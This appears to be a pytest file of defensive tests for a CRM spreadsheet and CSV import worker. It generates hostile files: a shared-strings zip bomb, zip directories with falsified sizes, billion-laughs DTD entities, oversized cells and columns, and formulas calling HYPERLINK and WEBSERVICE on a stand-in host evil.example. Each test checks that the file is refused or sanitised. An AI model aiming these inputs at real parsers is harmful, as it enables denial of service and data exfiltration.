"""Hostile spreadsheets and CSVs: each is answered in seconds with a clear code, the
worker is not taken, and the next import runs. The files are generated here, small on disk."""

from __future__ import annotations

import io
import struct
import time
import tracemalloc
import zipfile
from collections import deque

import pytest

from crm_workers.adapters.tabular import describe, scan
from crm_workers.adapters.xlsx import read_rows
from tests.e2e.imports.helpers import contacts, run_import
from tests.e2e.imports.test_preview import preview

SECONDS = 20  # every hostile file is done with well within this (openpyxl took ~10 minutes on the first one)

WORKBOOK = (
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet1.xml"/>'
    '<Relationship Id="rId2" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" '
    'Target="sharedStrings.xml"/></Relationships>'
)
MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
CONTENT_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
)
ROOT_RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Target="xl/workbook.xml" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/>'
    "</Relationships>"
)


def _cell(ref: str, value) -> str:
    if isinstance(value, int):
        return f'<c r="{ref}"><v>{value}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t>{value}</t></is></c>'


def sheet_xml(rows: list[list], *, dimension: str | None = None, extra: str = "") -> str:
    body = "".join(
        f'<row r="{n}">' + "".join(_cell(f"{chr(65 + i)}{n}", v) for i, v in enumerate(row)) + "</row>"
        for n, row in enumerate(rows, start=1)
    )
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return f'<?xml version="1.0"?><worksheet {MAIN}>{dim}<sheetData>{body}{extra}</sheetData></worksheet>'


def xlsx(sheet: str | bytes, *, shared: bytes | None = None, doctype: str = "") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as book:
        book.writestr("[Content_Types].xml", CONTENT_TYPES)
        book.writestr("_rels/.rels", ROOT_RELS)
        book.writestr("xl/workbook.xml", WORKBOOK)
        book.writestr("xl/_rels/workbook.xml.rels", RELS)
        book.writestr("xl/worksheets/sheet1.xml", doctype + sheet if isinstance(sheet, str) else sheet)
        if shared is not None:
            with book.open("xl/sharedStrings.xml", "w", force_zip64=True) as part:
                part.write(shared)
    return out.getvalue()


PEOPLE = [["email", "first_name", "last_name"], ["ana@example.com", "Ana", "Lima"], ["bob@example.com", "Bob", "Stone"]]


def _timed_import(client, db, tenant, content: bytes, name: str) -> dict:
    started = time.monotonic()
    job = run_import(client, db, tenant, content, name, timeout=SECONDS)
    assert time.monotonic() - started < SECONDS
    return job


def _next_import_runs(client, db, tenant):
    job = run_import(client, db, tenant, b"email\nafter@example.com\n", "after.csv")
    assert job["status"] == "completed" and contacts(db, tenant.account_id, email="after@example.com")


def test_a_sheet_declaring_a_million_rows_by_16k_columns_imports_its_real_cells_in_seconds(client, db, worker, tenant):
    from openpyxl import load_workbook

    content = xlsx(sheet_xml(PEOPLE, dimension="A1:XFD1048576"))
    declared = load_workbook(io.BytesIO(content), read_only=True).active
    job = _timed_import(client, db, tenant, content, "bomb.xlsx")

    assert len(content) < 5000 and (declared.max_row, declared.max_column) == (1048576, 16384)  # what openpyxl reads
    assert job["status"] == "completed" and job["result"]["headers"] == ["email", "first_name", "last_name"]
    assert job["result"]["counts"]["created"] == 2
    _next_import_runs(client, db, tenant)


def test_a_shared_strings_zip_bomb_is_refused_before_it_is_inflated(client, db, worker, tenant):
    bomb = b"<sst " + MAIN.encode() + b">" + b"<si><t>" + b"A" * (64 * 1024 * 1024) + b"</t></si></sst>"
    content = xlsx(sheet_xml([["email"], ["x@example.com"]]), shared=bomb)
    answered = preview(client, tenant, content, "bomb.xlsx")
    job = _timed_import(client, db, tenant, content, "bomb.xlsx")

    assert len(content) < 200_000
    assert answered.status_code == 413 and answered.get_json()["error"]["code"] == "spreadsheet_too_large"
    assert job["status"] == "failed" and job["error"]["code"] == "spreadsheet_too_large"
    assert "xl/sharedStrings.xml inflates" in job["error"]["message"]
    _next_import_runs(client, db, tenant)


def _lie_about_size(content: bytes, part: str, size: int) -> bytes:
    """The zip's central directory made to say `part` is `size` bytes uncompressed."""
    data = bytearray(content)
    at = data.find(b"PK\x01\x02")
    while at != -1:
        name_length = struct.unpack_from("<H", data, at + 28)[0]
        if data[at + 46 : at + 46 + name_length].decode() == part:
            struct.pack_into("<I", data, at + 24, size)
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def test_a_zip_whose_directory_understates_a_part_is_read_no_further_than_it_says(client, db, worker, tenant):
    rows = [["email"]] + [[f"p{i}@example.com"] for i in range(2000)]
    content = _lie_about_size(xlsx(sheet_xml(rows)), "xl/worksheets/sheet1.xml", 1000)
    job = _timed_import(client, db, tenant, content, "liar.xlsx")

    assert job["status"] == "failed" and job["error"]["code"] == "unreadable_file"
    assert contacts(db, tenant.account_id) == []


def _claim_sizes(content: bytes, part: str, size: int) -> bytes:
    """The zip's central directory made to say `part` is `size` bytes, compressed and uncompressed (ratio 1)."""
    data = bytearray(content)
    at = data.find(b"PK\x01\x02")
    while at != -1:
        name_length = struct.unpack_from("<H", data, at + 28)[0]
        if data[at + 46 : at + 46 + name_length].decode() == part:
            struct.pack_into("<II", data, at + 20, size, size)
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def test_a_spreadsheet_over_2_gib_uncompressed_is_refused_before_anything_is_inflated(client, db, worker, tenant):
    # No part inflates more than 100 times (the directory says stored, 1:1), but together they are 2.4 GiB.
    content = xlsx(sheet_xml(PEOPLE), shared=b"<sst " + MAIN.encode() + b"><si><t>x</t></si></sst>")
    for part in ("xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/workbook.xml"):
        content = _claim_sizes(content, part, 800 * 1024**2)
    job = _timed_import(client, db, tenant, content, "huge.xlsx")

    assert job["status"] == "failed" and job["error"]["code"] == "spreadsheet_too_large"
    assert "bytes uncompressed; the limit is 2147483648" in job["error"]["message"]
    assert contacts(db, tenant.account_id) == []
    _next_import_runs(client, db, tenant)


def test_a_dtd_in_the_shared_strings_is_refused(client, db, worker, tenant):
    laughs = b'<!DOCTYPE sst [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
    shared = laughs + b"<sst " + MAIN.encode() + b"><si><t>email</t></si><si><t>&lol2;@example.com</t></si></sst>"
    sheet = (
        f'<worksheet {MAIN}><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row>'
        '<row r="2"><c r="A2" t="s"><v>1</v></c></row></sheetData></worksheet>'
    )
    job = _timed_import(client, db, tenant, xlsx(sheet, shared=shared), "laughs.xlsx")

    assert job["status"] == "failed" and job["error"]["code"] == "unsafe_spreadsheet"
    assert contacts(db, tenant.account_id) == []


def test_a_value_past_column_1000_fails_the_file_with_its_row(client, db, worker, tenant):
    content = xlsx(sheet_xml(PEOPLE, extra='<row r="4"><c r="XFD4" t="inlineStr"><is><t>x</t></is></c></row>'))
    job = _timed_import(client, db, tenant, content, "wide.xlsx")
    wide_csv = _timed_import(
        client, db, tenant, (",".join(f"c{i}" for i in range(1500)) + "\n1\n").encode(), "wide.csv"
    )

    assert job["status"] == "failed" and job["error"]["code"] == "too_many_columns"
    assert "row 4 has a value in column 16384" in job["error"]["message"]
    assert wide_csv["status"] == "failed" and wide_csv["error"]["code"] == "too_many_columns"


def test_entities_and_dtds_in_a_sheet_are_refused(client, db, worker, tenant):
    laughs = '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
    content = xlsx(sheet_xml(PEOPLE).replace('<?xml version="1.0"?>', ""), doctype=laughs)
    job = _timed_import(client, db, tenant, content, "laughs.xlsx")

    assert job["status"] == "failed" and job["error"]["code"] == "unsafe_spreadsheet"


def test_formulas_give_their_cached_values_and_never_their_text(client, db, worker, tenant):
    rows = (
        '<row r="1"><c r="A1" t="inlineStr"><is><t>email</t></is></c><c r="B1" t="inlineStr"><is><t>first_name'
        '</t></is></c><c r="C1" t="inlineStr"><is><t>last_name</t></is></c></row>'
        '<row r="2"><c r="A2" t="str"><f>LOWER("ANA@EXAMPLE.COM")</f><v>ana@example.com</v></c>'
        '<c r="B2" t="str"><f>HYPERLINK("http://evil.example/?"&amp;A2,"Ana")</f><v>Ana</v></c>'
        '<c r="C2"><f>WEBSERVICE("http://evil.example/")</f></c></row>'
    )
    content = xlsx(f"<worksheet {MAIN}><sheetData>{rows}</sheetData></worksheet>")
    job = _timed_import(client, db, tenant, content, "formulas.xlsx")
    ana = contacts(db, tenant.account_id, email="ana@example.com")

    assert job["status"] == "completed" and len(ana) == 1
    assert ana[0]["first_name"] == "Ana" and "last_name" not in ana[0]
    assert "evil" not in repr(ana[0])


@pytest.mark.parametrize("shape", ["one line", "one quoted cell over many lines"])
def test_a_50_mb_cell_fails_the_csv_with_the_reason_in_seconds(client, db, worker, tenant, shape):
    filler = b"A" * (50 * 1024 * 1024) if shape == "one line" else b"A\n" * (25 * 1024 * 1024)
    content = b'name,email\n"' + filler + b'",x@example.com\nBob,bob@example.com\n'
    answered = preview(client, tenant, content, "huge.csv")
    job = _timed_import(client, db, tenant, content, "huge.csv")

    code = "line_too_long" if shape == "one line" else "cell_too_large"
    assert answered.status_code == 413 and answered.get_json()["error"]["code"] == code
    assert job["status"] == "failed" and job["error"]["code"] == code
    assert job["error"]["message"].startswith("line 2 is longer" if shape == "one line" else "row 2 has a cell")
    assert contacts(db, tenant.account_id) == []
    _next_import_runs(client, db, tenant)


def test_counting_rows_stops_past_the_limit():
    content = b"email\n" + b"".join(b"p%d@example.com\n" % i for i in range(200_000))
    info = describe(lambda: io.BytesIO(content), "many.csv")
    started = time.thread_time()  # this thread's CPU: the scan's own work, not the machine's load

    assert scan(lambda: io.BytesIO(content), info, limit=5) == 6
    assert time.thread_time() - started < 0.5


@pytest.mark.slow  # tracemalloc makes it slow
def test_shared_strings_are_kept_on_disk_not_in_memory():
    strings = [f"contact-{i:07d}-{'x' * 40}" for i in range(150_000)]  # 8 MB of unique text, 17 MB as a list
    shared = ("<sst " + MAIN + ">" + "".join(f"<si><t>{s}</t></si>" for s in strings) + "</sst>").encode()
    sheet = "".join(f'<row r="{i + 1}"><c r="A{i + 1}" t="s"><v>{i}</v></c></row>' for i in range(len(strings)))
    content = xlsx(f"<worksheet {MAIN}><sheetData>{sheet}</sheetData></worksheet>", shared=shared)
    tracemalloc.start()
    try:
        last = deque(read_rows(io.BytesIO(content)), maxlen=1).pop()
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()

    assert last == (150_000, [strings[-1]])
    assert peak < 10 * 1024 * 1024  # a spooled buffer, the offsets and a block of XML, whatever the strings weigh
